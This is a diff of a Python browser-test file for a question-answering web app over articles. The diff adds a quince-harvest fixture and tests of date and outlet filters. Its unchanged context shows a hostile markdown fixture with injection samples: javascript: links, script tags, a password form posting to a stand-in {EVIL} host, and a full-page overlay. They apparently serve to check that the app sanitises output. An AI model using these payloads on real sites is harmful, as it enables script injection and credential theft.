@@ -32,6 +32,14 @@ zebrafish ![pic](https:{EVIL}/p.png) are [harmless](javascript:window.__pwned=5)
 <form action="https:{EVIL}/f"><input name=password></form>
 <div style="position:fixed;inset:0;background:url(https:{EVIL}/b.png)">cover</div> **bold** `code` in tanks.
 """
+QUINCES = """---
+title: Quince harvest
+source: Orchard Weekly
+published: 2024-05-07
+---
+
+The quince harvest of Melrose was nine tonnes.
+"""
 ANSWERED = {
     "answered": True, "text": "…", "short_answer": None,
     "citations": [{"title": f"<b>Old</b> $$\\href{{https:{EVIL}/k}}{{x}}$$", "quote": "<script>window.__pwned=6</script> the mission"}],
@@ -87,6 +95,7 @@ def server(tmp_path_factory, evaluation) -> Iterator[str]:
     corpus = tmp_path_factory.mktemp("web") / "articles"
     shutil.copytree(BUNDLED, corpus, ignore=shutil.ignore_patterns(".assistant"))
     (corpus / "hostile.md").write_text(HOSTILE)
+    (corpus / "quinces.md").write_text(QUINCES)
     with serving(
         corpus, ASSISTANT_EVALUATION=str(evaluation), ASSISTANT_ALLOW_PRIVATE_ADDRESSES="1"
     ) as address:
@@ -214,6 +223,38 @@ def test_a_refusal_shows_the_nearest_passages(visit):
     answer = visit().ask("What is the recipe for sourdough bread?")
     expect(answer).to_contain_text("The articles do not answer this question")
     expect(answer.locator("h2")).to_have_text("Nearest passages")
+
+
+def test_the_time_of_a_question_narrows_it_and_the_chip_takes_that_back(visit, tmp_path):
+    seen = visit()
+    answer = seen.ask("How large was the quince harvest of Melrose in May 2024?")
+    expect(answer.locator("blockquote").first).to_contain_text("nine tonnes")
+    chip = seen.page.locator("#period")
+    expect(chip).to_contain_text("in May 2024")
+    seen.picture("period", tmp_path)
+    chip.click()
+    expect(chip).not_to_be_visible(timeout=60_000)
+    expect(seen.page.locator("#chat .answer").last.locator("blockquote").first).to_contain_text(
+        "nine tonnes", timeout=60_000
+    )
+
+
+def test_only_the_articles_that_a_person_chose_are_asked(visit):
+    seen = visit()
+    page = seen.page
+    page.locator("#which button").first.click()
+    page.get_by_role("textbox", name="Published since").fill("soon")
+    page.locator("#question textarea, #question input").first.fill("How large was the harvest?")
+    page.locator("#send").click()
+    expect(page.locator("#chat .note").last).to_contain_text("2026-11-24", timeout=60_000)
+    page.get_by_role("textbox", name="Published since").fill("2025-01-01")
+    answer = seen.ask("How large was the quince harvest of Melrose?")
+    expect(answer).not_to_contain_text("nine tonnes")
+    page.get_by_role("textbox", name="Published since").fill("")
+    page.get_by_label("Outlets").click()
+    page.get_by_role("option", name="Orchard Weekly").click()
+    answer = seen.ask("How large was the quince harvest of Melrose?")
+    expect(answer).to_contain_text("nine tonnes")
 
 
 def test_an_example_question_is_asked_by_a_click(visit):
